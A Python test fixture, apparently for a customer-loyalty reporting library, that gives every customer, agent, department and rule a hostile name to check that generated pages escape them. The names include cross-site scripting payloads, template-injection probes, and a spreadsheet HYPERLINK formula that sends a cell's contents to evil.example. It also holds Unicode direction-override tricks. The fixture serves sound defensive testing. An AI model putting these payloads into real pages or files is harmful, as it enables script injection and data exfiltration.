"""A company whose every name was chosen to break the page that speaks of it."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import polars as pl

from custloyal import History, RuleBook, ServiceRule
from custloyal.rules import at_most, where, within

SAYS = "inert"
"""What every name that is words says somewhere, so that a page can be asked whether it shows it."""
NAMES = (
    f"<script>window.acted.push('script')</script>{SAYS}",
    f"</script><script>window.acted.push('after script')</script>{SAYS}",
    f"</style></title></svg><img src=x onerror=\"window.acted.push('image')\">{SAYS}",
    f"\"><svg onload=window.acted.push('drawn')>{SAYS}",
    f"' onmouseover='window.acted.push(1)' autofocus onfocus='window.acted.push(2)' {SAYS}",
    f"<!-- --><iframe srcdoc=\"<script>parent.acted.push('frame')</script>\">{SAYS}",
    f"<a href=\"javascript:window.acted.push('link')\">{SAYS}</a>",
    f'<link rel=stylesheet href=http://evil.example/><base href="http://evil.example/">{SAYS}',
    f'{SAYS}\\"}}],"x":[{{"\\u0022',
    f"\\u003cscript\\u003ewindow.acted.push('escaped')\\u003c/script\\u003e{SAYS}",
    f"{{{{7*7}}}}{{% raw %}}${{7*7}}<%= 7*7 %>{SAYS}",
    f'=HYPERLINK("http://evil.example/?"&A1,"{SAYS}")',
    f"datum['constructor'].constructor('window.acted.push(1)')() {SAYS}",
    f"{SAYS} \u202egnp.exe\u202c \u2066\u2067\u200f\u200e",
    f"\u200b\u200d\ufeff{SAYS}\u200b",
    f"bell\x07escape\x1b[31m{SAYS}",
    f"\u05e9\u05dc\u05d5\u05dd {SAYS} \u0645\u0631\u062d\u0628\u0627",
    f"\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e007f {SAYS}",
    f"Z{chr(0x0301) * 300}algo {SAYS}",
    "__proto__",
    "constructor",
    "null",
    "NaN",
    f"{SAYS} {'W' * 10_000}",
    f"{SAYS} {'word ' * 2_000}",
)
_START = datetime(2024, 1, 3, 9, tzinfo=UTC)
_COURSE = ("purchase", "question", "reply", "handoff", "resolution", "purchase", "complaint")


def hostile_history() -> History:
    """For each name a customer, a department, an agent and a kind, all of it called that way."""
    rows = [
        {
            "customer_id": name,
            "occurred_at": _START + timedelta(days=11 * turn + place, hours=step, minutes=place),
            "kind": kind,
            "case_id": f"{name}{turn}",
            "amount": 10.0 + place if kind == "purchase" else None,
            "department": NAMES[(place + step) % len(NAMES)],
            "agent_id": name,
            "channel": name,
            "topic": name,
            "category": name,
            "initiated_by": "customer",
        }
        for place, name in enumerate(NAMES)
        for turn in range(5)
        for step, kind in enumerate((*_COURSE, name))
    ]
    customers = pl.DataFrame(
        {"customer_id": NAMES, "acquisition_channel": NAMES, "tier": NAMES, "segment": NAMES}
    )
    return History.from_native(pl.DataFrame(rows), timezone="UTC", customers=customers)


def hostile_rules() -> RuleBook:
    """For each name a rule that is called that way."""
    promises = (at_most(0, "handoffs"), within(hours=2, until=where(kind="resolution")))
    return RuleBook(
        [
            ServiceRule(
                name=name,
                population=where(kind=["question", "complaint"], channel=name),
                promise=promises[place % 2],
                target=0.9,
                window="month",
                owner=name,
            )
            for place, name in enumerate(NAMES)
        ]
    )
